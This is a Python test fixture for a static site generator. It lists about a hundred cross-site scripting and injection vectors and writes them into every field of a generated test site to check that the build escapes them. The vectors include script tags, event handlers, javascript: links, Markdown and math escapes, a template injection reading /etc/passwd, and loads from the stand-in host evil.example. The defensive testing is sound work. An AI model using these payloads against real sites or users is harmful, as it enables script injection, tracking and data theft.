"""Texts that would run a script if they were taken for markup, and a site that holds each of them everywhere.

Every vector calls ``alert`` or asks a foreign host, so that a browser shows when one has run.
"""

import json
from pathlib import Path

from offprint.records import markup
from tests.sites import SITE

_A = "alert(document.domain)"
VECTORS = [
    # elements
    f"<script>{_A}</script>",
    f"</script><script>{_A}</script>",
    f"</title><script>{_A}</script>",
    f"</textarea><script>{_A}</script>",
    f"</pre></div></article><script>{_A}</script>",
    f"--><script>{_A}</script><!--",
    f"]]><script>{_A}</script><![CDATA[",
    f"<ScRiPt >{_A}</ScRiPt >",
    f"<script/x>{_A}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<<script>{_A}//<</script>",
    f"<script>{_A}",
    f"<img src=x onerror={_A}>",
    f"<img src=x onerror='{_A}'//",
    '<img src="http://evil.example/pixel.png">',
    f"<svg onload={_A}>",
    f"<svg><script>{_A}</script></svg>",
    f"<svg><animate onbegin={_A} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_A}'><text y=20>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_A}></style></mglyph></table></mtext></math>",
    f"<math><mi href='javascript:{_A}'>x</mi></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={_A}></annotation-xml></math>",
    f"<iframe src='javascript:{_A}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_A}</script>'></iframe>",
    f"<object data='data:text/html,<script>{_A}</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    f"<body onload={_A}>",
    f"<video><source onerror={_A}></video>",
    f"<audio src=x onerror={_A}>",
    f"<details open ontoggle={_A}>x</details>",
    f"<input autofocus onfocus={_A}>",
    f"<select autofocus onfocus={_A}>",
    f"<a href='javascript:{_A}'>x</a>",
    f"<form action='javascript:{_A}'><button>x</button></form>",
    f"<button formaction='javascript:{_A}'>x</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_A}'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<p style='background:url(http://evil.example/x.png)'>x</p>",
    f"<marquee onstart={_A}>x</marquee>",
    f"<noscript><p title='</noscript><img src=x onerror={_A}>'>",
    f"<template><script>{_A}</script></template>",
    f"<xmp><p title='</xmp><img src=x onerror={_A}>'>",
    f"<?xml-stylesheet href='javascript:{_A}'?>",
    f"<!--[if gte IE 4]><script>{_A}</script><![endif]-->",
    f"<x onclick={_A}>x</x>",
    f"<div data-pagefind-body data-pagefind-meta='title'>x</div><img src=x onerror={_A}>",
    # out of an attribute, a string, an address
    f'" onmouseover="{_A}',
    f"' onmouseover='{_A}",
    f'"><img src=x onerror={_A}>',
    f"'><img src=x onerror={_A}>",
    f"` onmouseover={_A} `",
    f'x" autofocus onfocus="{_A}" x="',
    f'"}};{_A};//',
    f"';{_A};//",
    f"${{{_A}}}",
    "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}{{ 7*7 }}[[site]]~/",
    f"\\u003cimg src=x onerror={_A}\\u003e",
    f"&lt;img src=x onerror={_A}&gt;",
    f"&amp;lt;img src=x onerror={_A}&amp;gt;",
    f"&#60;img src=x onerror={_A}&#62;",
    f"%3Cimg src=x onerror={_A}%3E",
    f"＜img src=x onerror={_A}＞",
    f"<mark><img src=x onerror={_A}></mark>",
    # Markdown
    f"[x](javascript:{_A})",
    f"[x](JaVaScRiPt:{_A})",
    f"[x]( javascript:{_A})",
    f"[x](java&#10;script:{_A})",
    f"[x](java&Tab;script:{_A})",
    f"[x](&#106;avascript:{_A})",
    f"[x](&#x6a;avascript&colon;{_A})",
    f"[x](javascript&#58;{_A})",
    f"[x](javascript://example.org/%0a{_A})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](blob:http://evil.example/x)",
    "[x](view-source:http://evil.example/)",
    "[x](//evil.example/)",
    f'[x](https://example.org/ "t" onmouseover={_A})',
    f'[x](https://example.org/" onmouseover="{_A})',
    f"[x](<javascript:{_A}>)",
    f"<javascript:{_A}>",
    f"![x](x){{: onerror={_A} }}",
    f'![x" onerror="{_A}](x)',
    "![x](http://evil.example/pixel.png)",
    f"[![x](javascript:{_A})](javascript:{_A})",
    f"*x*{{: style='x' onclick='{_A}' }}",
    f"``` {{ onclick={_A} }}",
    f"`<img src=x onerror={_A}>`",
    f"    <img src=x onerror={_A}>",
    f"# <img src=x onerror={_A}> {{: onclick={_A} }}",
    # math
    f"$\\text{{</math><img src=x onerror={_A}>}}$",
    f"$\\text{{<script>{_A}</script>}}$",
    f"$\\href{{javascript:{_A}}}{{x}}$",
    "$\\style{background:url(http://evil.example/)}{x}$",
    f"$\\class{{x' onclick='{_A}}}{{x}}$",
    f"$x^{{\\text{{<svg onload={_A}>}}}}$",
    f"$\\mathrm{{&lt;img src=x onerror={_A}&gt;}}$",
    f"$\\begin{{matrix}}<img src=x onerror={_A}>&a\\\\b&c\\end{{matrix}}$",
    f"$\\color{{red' onmouseover='{_A}}}x$",
    f"\\(<img src=x onerror={_A}>\\)",
    f"$$<style><img src=x onerror={_A}></style>$$",
]  # fmt: skip


def word(number: int) -> str:
    """The word that only this vector's paper has."""
    return f"vector{number:03}"


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def in_markdown(vector: str) -> str:
    """The vector as Markdown; as code where a build refuses it, since its link would run a script."""
    refused = any(fault.severity == "error" for fault in markup.markdown(vector)[1])
    return f"`` {vector} ``" if refused else vector


def write_hostile_content(folder: Path) -> None:
    """A site in whose every text field every vector stands; its configuration holds all that fit there."""
    root = folder / "content"
    for kind in ("papers", "topics", "organizations", "pages"):
        (root / kind).mkdir(parents=True)
    (root / "site.yaml").write_text(
        SITE.replace("A small archive", _quoted("</title>" + VECTORS[0]))
        + f"tagline: {_quoted(VECTORS[12])}\ndescription: {_quoted(VECTORS[50])}\n"
        + f"short_name: {_quoted(VECTORS[2])}\nlanguage: {_quoted('en')}\nbranch: main\n"
        + "subscribe: {action: 'https://example.org/s', field: email}\n"
        + "authors: {min_papers: 1}\npage_size: 20\n",
        encoding="utf-8",
    )
    for number, vector in enumerate(VECTORS):
        name = f"v{number:03}"
        quoted, text = _quoted(f"{word(number)} {vector}"), in_markdown(vector)
        (root / f"papers/{name}.md").write_text(
            f"---\ntitle: {quoted}\ndate: 2026-06-{number % 28 + 1:02}\n"
            f"authors:\n  - name: {quoted}\n    organizations: [{quoted}]\n"
            f"organizations: [{_quoted(vector[:190])}]\ntopics: [{name}]\nvenue: {quoted}\n"
            f"status: {'withdrawn' if number % 7 == 6 else 'published'}\nnotice: {quoted}\n"
            f"abstract: {quoted}\n"
            f"links: {{code: 'https://example.org/?{number}&x=1'}}\n"
            f"---\nHostile {word(number)}:\n\n{text}\n\n* {text}\n\n> {text}\n\nand {text} so.\n",
            encoding="utf-8",
        )
        (root / f"topics/{name}.md").write_text(
            f"---\nname: {quoted}\naliases: [{_quoted(name + vector[:150])}]\n---\nOn {text}\n", "utf-8"
        )
        (root / f"organizations/{name}.md").write_text(
            f"---\nname: {_quoted(name + ' ' + vector)}\nhandle: {quoted}\n"
            f"aliases: [{_quoted(f'{name} or {vector[:150]}')}]\nurl: 'https://example.org/?{number}'\n"
            f"---\nOf {text}\n",
            encoding="utf-8",
        )
        (root / f"pages/{name}.md").write_text(f"---\ntitle: {quoted}\n---\nA page.\n\n{text}\n", "utf-8")


def json_ld_of(page: str) -> object:
    """The data of a page's only data block."""
    return json.loads(page.split('<script type="application/ld+json">')[1].split("</script>", maxsplit=1)[0])
